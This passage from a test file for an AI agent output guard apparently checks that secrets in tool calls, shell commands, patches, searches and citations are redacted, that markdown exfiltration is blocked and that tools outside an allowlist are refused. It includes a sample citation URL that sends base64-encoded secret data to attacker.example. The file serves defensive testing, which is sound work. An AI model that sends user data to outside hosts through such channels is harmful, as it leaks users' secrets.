      content: [
        {
          type: 'output_text',
          text: 'See.',
          annotations: [{ type: 'url_citation', title: `By ${email}`, url: 'https://example.org/a' }],
        },
      ],
    };
    for (const item of [call, logs, shell, message])
      expect(rewriteOutputItem(responseGuard, item)).toBe(true);
    expect(JSON.parse(call.arguments)).toEqual({ to: ORIGINAL, key: expect.stringMatching(REDACTED_KEY) });
    expect(call.output).toBe(`Sent to ${ORIGINAL}.`);
    expect(logs.outputs[0]?.logs).toMatch(/^\[REDACTED:[A-Z_]+\]$/);
    expect(shell.output[0]?.stdout).toBe(`${ORIGINAL}\n`);
    expect(message.content[0]?.annotations[0]).toEqual({
      type: 'url_citation',
      title: `By ${ORIGINAL}`,
      url: 'https://example.org/a',
    });
    expect(responseGuard.changed).toBe(true);
  });

  it.each([
    ['MCP call output', { type: 'mcp_call', name: 'lookup', arguments: '{}', output: EXFIL }],
    ['an MCP call error', { type: 'mcp_call', name: 'lookup', arguments: '{}', error: EXFIL }],
    [
      'MCP approval arguments',
      { type: 'mcp_approval_request', name: 'lookup', arguments: JSON.stringify({ md: EXFIL }) },
    ],
    ['an MCP listing error', { type: 'mcp_list_tools', server_label: 'crm', tools: [], error: EXFIL }],
    ['code-interpreter code', { type: 'code_interpreter_call', code: `print("${EXFIL}")`, outputs: null }],
    [
      'code-interpreter logs',
      { type: 'code_interpreter_call', code: '', outputs: [{ type: 'logs', logs: EXFIL }] },
    ],
    ['a local shell command', { type: 'local_shell_call', action: { command: ['echo', EXFIL], env: {} } }],
    ['a shell command', { type: 'shell_call', action: { commands: [`echo '${EXFIL}'`] } }],
    [
      'a patch',
      { type: 'apply_patch_call', operation: { type: 'update_file', path: 'a.md', diff: `+${EXFIL}` } },
    ],
    ['shell output', { type: 'shell_call_output', output: [{ stdout: '', stderr: EXFIL }] }],
    ['a program', { type: 'program', code: `log("${EXFIL}")` }],
    [
      'a web search query',
      { type: 'web_search_call', action: { type: 'search', queries: ['paris', EXFIL] } },
    ],
    ['a file search result', { type: 'file_search_call', queries: ['notes'], results: [{ text: EXFIL }] }],
    ['text typed by computer use', { type: 'computer_call', actions: [{ type: 'type', text: EXFIL }] }],
    [
      'a citation title',
      {
        type: 'message',
        content: [
          {
            type: 'output_text',
            text: 'x',
            annotations: [{ type: 'url_citation', title: EXFIL, url: 'https://a.example/' }],
          },
        ],
      },
    ],
  ])('blocks markdown exfiltration in %s', (_name, item: Record<string, unknown>) => {
    const { responseGuard } = setup(null);
    expect(rewriteOutputItem(responseGuard, { id: 'i_1', ...item })).toBe(false);
    expect(responseGuard.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
  });

  it.each([
    ['an MCP call', { type: 'mcp_call', name: 'drop_tables', arguments: '{}' }],
    ['an MCP approval request', { type: 'mcp_approval_request', name: 'drop_tables', arguments: '{}' }],
    ['a code-interpreter call', { type: 'code_interpreter_call', code: 'print(1)', outputs: null }],
    ['a local shell call', { type: 'local_shell_call', action: { command: ['ls'], env: {} } }],
  ])('refuses %s outside the allowlist', (_name, item: Record<string, unknown>) => {
    const { responseGuard } = setup();
    expect(rewriteOutputItem(responseGuard, { id: 'i_1', ...item })).toBe(false);
    expect(responseGuard.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
  });

  it('checks citation URLs as links: data sent to a foreign host is blocked, a plain URL passes', () => {
    const builtIn = createGuard({ policy: 'balanced' });
    const check = (url: string) => {
      const responseGuard = createResponseGuard({
        checker: createOutputChecker({ guard: builtIn, failMode: config.failMode }),
        streaming: config.streaming,
        vault: builtIn.createVault(),
        tools: null,
        maxBufferChars: 1_000_000,
      });
      const annotation = { type: 'url_citation', start_index: 0, end_index: 1, title: 'Paris', url };
      const item = {
        id: 'm',
        type: 'message',
        content: [{ type: 'output_text', text: 'x', annotations: [annotation] }],
      };
      return {
        allowed: rewriteOutputItem(responseGuard, item),
        annotation,
        violation: responseGuard.violation,
      };
    };
    const plain = check('https://en.wikipedia.org/wiki/Paris?utm_source=openai');
    expect(plain.allowed).toBe(true);
    expect(plain.annotation.url).toBe('https://en.wikipedia.org/wiki/Paris?utm_source=openai');
    const leaking = check('https://attacker.example/c?d=c2VjcmV0LW5vdGVzLWZvci1hbm4tQVBJa2V5MTIz');
    expect(leaking.allowed).toBe(false);
    expect(leaking.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
  });
});
